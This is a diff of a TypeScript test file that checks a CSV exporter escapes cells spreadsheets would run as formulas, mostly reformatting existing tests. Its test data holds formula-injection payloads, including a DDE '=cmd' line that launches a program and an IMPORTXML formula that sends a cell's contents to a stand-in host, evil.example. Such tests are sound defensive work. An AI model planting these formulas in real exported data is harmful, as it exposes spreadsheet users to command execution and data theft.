@@ -32,7 +32,7 @@ const hostileText: [string, string][] = [
   ["=cmd|'/c calc'!A1;=2", `"'=cmd|'/c calc'!A1;=2"`],
   ['=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', `"'=IMPORTXML(CONCAT(""http://evil.example/?"",A2),""//a"")"`],
   ["=1\r\n=2", `"'=1\r\n=2"`],
-  ["@\"quoted\"", `"'@""quoted"""`],
+  ['@"quoted"', `"'@""quoted"""`],
   // A VARCHAR that reads like a number is still text: it keeps its text form.
   ["-3", `"'-3"`],
   ["+44 20 7946 0958", `"'+44 20 7946 0958"`],
@@ -83,9 +83,15 @@ describe("CSV export escapes cells a spreadsheet would run as formulas", () => {
   });
 
   it("escapes column names too (an alias is user input)", () => {
-    expect(csvOf([{ name: "=HYPERLINK(\"http://evil.example\")", type: "INTEGER" }, { name: "ok", type: "INTEGER" }], [[1, 2]])).toBe(
-      `"'=HYPERLINK(""http://evil.example"")",ok\r\n1,2\r\n`,
-    );
+    expect(
+      csvOf(
+        [
+          { name: '=HYPERLINK("http://evil.example")', type: "INTEGER" },
+          { name: "ok", type: "INTEGER" },
+        ],
+        [[1, 2]],
+      ),
+    ).toBe(`"'=HYPERLINK(""http://evil.example"")",ok\r\n1,2\r\n`);
   });
 
   it("escapes nested values written as JSON only by their first character", () => {
@@ -93,14 +99,25 @@ describe("CSV export escapes cells a spreadsheet would run as formulas", () => {
   });
 
   it("keeps booleans and nulls as they were", () => {
-    expect(csvOf([{ name: "b", type: "BOOLEAN" }, text], [[true, null], [false, undefined]])).toBe("b,v\r\ntrue,\r\nfalse,\r\n");
+    expect(
+      csvOf(
+        [{ name: "b", type: "BOOLEAN" }, text],
+        [
+          [true, null],
+          [false, undefined],
+        ],
+      ),
+    ).toBe("b,v\r\ntrue,\r\nfalse,\r\n");
   });
 });
 
 describe("JSON export stays exact", () => {
   it("writes every hostile cell unchanged, without the CSV escape", () => {
     const values = [...hostileText, ...harmlessText].map(([value]) => value);
-    const out = jsonOf([text, { name: "n", type: "BIGINT" }], values.map((v) => [v, "-9223372036854775808"]));
+    const out = jsonOf(
+      [text, { name: "n", type: "BIGINT" }],
+      values.map((v) => [v, "-9223372036854775808"]),
+    );
     const parsed = JSON.parse(out) as { v: string; n: string }[];
     expect(parsed.map((row) => row.v)).toEqual(values);
     expect(parsed.every((row) => row.n === "-9223372036854775808")).toBe(true);
